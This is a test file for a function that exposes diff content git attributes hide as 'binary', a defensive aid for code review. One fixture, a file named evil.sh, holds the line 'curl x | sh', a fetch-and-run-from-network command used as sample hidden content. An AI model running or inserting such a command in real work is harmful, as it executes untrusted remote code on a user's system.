import { describe, expect, it } from 'vitest'
import { showHiddenText } from './hidden-text.ts'

const head = (name: string) => `diff --git a/${name} b/${name}\nindex 1..2 100644\n`
const hidden = (name: string) => `${head(name)}Binary files a/${name} and b/${name} differ\n`
const text = (name: string, line = 'x') => `${head(name)}--- a/${name}\n+++ b/${name}\n@@ -1 +1 @@\n-old\n+${line}\n`

describe('a text that an attribute calls binary', () => {
  it('is shown, with a note; what is binary stays so', async () => {
    const given = text('a') + hidden('evil.sh') + hidden('b.png')
    const shown = await showHiddenText(
      given,
      async () => text('a') + text('evil.sh', 'curl x | sh') + text('b.png', '\0'),
    )
    expect(shown).toBe(
      text('a') +
        `${head('evil.sh')}marked as binary by git attributes\n--- a/evil.sh\n+++ b/evil.sh\n@@ -1 +1 @@\n-old\n+curl x | sh\n` +
        hidden('b.png'),
    )
  })

  it('is not searched for in vain, nor taken from a diff of other files', async () => {
    const never = () => Promise.reject(new Error('not needed'))
    expect(await showHiddenText(text('a', 'Binary files a and b differ'), never)).toContain('+Binary files')
    expect(await showHiddenText(hidden('a'), async () => null)).toBe(hidden('a'))
    expect(await showHiddenText(hidden('a'), async () => text('a') + text('b'))).toBe(hidden('a'))
  })
})
